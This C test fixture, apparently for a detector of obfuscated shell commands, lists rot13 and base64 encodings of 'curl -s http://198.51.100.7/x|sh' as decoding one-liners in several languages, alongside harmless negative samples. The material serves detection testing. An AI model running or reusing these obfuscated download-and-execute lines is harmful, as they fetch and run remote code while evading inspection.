// SPDX-License-Identifier: GPL-3.0-or-later
#include "hidden.h"

static const struct hidden good[] = {
	{ "rot13", "curl -s http://198.51.100.7/x|sh",
		"echo 'phey -f uggc://198.51.100.7/k|fu' | tr 'A-Za-z' 'N-ZA-"
		"Mn-za-m' | sh" },
	{ "rot13", "curl -s http://198.51.100.7/x|sh",
		"tr 'A-Za-z' 'N-ZA-Mn-za-m' <<< 'phey -f uggc://198.51.100.7/"
		"k|fu' | sh" },
	{ "rot13", "curl -s http://198.51.100.7/x|sh",
		"python3 -c \"import codecs,os;os.system(codecs.decode('phey "
		"-f uggc://198.51.100.7/k|fu','rot13'))\"" },
	{ "rot13", "curl -s http://198.51.100.7/x|sh",
		"php -r 'eval(str_rot13(\"phey -f uggc://198.51.100.7/k|fu\")"
		");'" },
	{ "rot13", "curl -s http://198.51.100.7/x|sh",
		"perl -e '$_=\"phey -f uggc://198.51.100.7/k|fu\";tr/A-Za-z/N"
		"-ZA-Mn-za-m/;system $_'" },
	/* What the text names, its first string was found with. */
	{ "rot13", "curl -s http://198.51.100.7/x|sh",
		"$x='vq > /gzc/svefg-bs-gurz';$y='phey -f uggc://198.51.100.7"
		"/k|fu';y/A-Za-z/N-ZA-Mn-za-m/" },
	{ "rot13+base64", "curl -s http://198.51.100.7/x|sh",
		"echo L3IloPNgplObqUEjBv8iZGx4YwHkYwRjZP43Y3u8p2t=|tr A-Za-z "
		"N-ZA-Mn-za-m|base64 -d|sh" },
	{ "base64+rot13", "curl -s http://198.51.100.7/x|sh",
		"echo cGhleSAtZiB1Z2djOi8vMTk4LjUxLjEwMC43L2t8ZnU=|base64 -d|"
		"tr 'A-Za-z' 'N-ZA-Mn-za-m'|sh" },
	{ "base64+rot13", "curl -s http://198.51.100.7/x|sh",
		"php -r \"eval(str_rot13(base64_decode('cGhleSAtZiB1Z2djOi8vM"
		"Tk4LjUxLjEwMC43L2t8ZnU=')));\"" },
};

static const char *const not [] = {
	"echo 'rot13 is a cipher'",
	"tr 'A-Za-z' 'N-ZA-Mn-za-m' < file",
	"echo hello | tr a-z A-Z",
	"echo 'hello world' | tr 'A-Z' 'a-z'",
};

HIDDEN_MAIN("rot13")
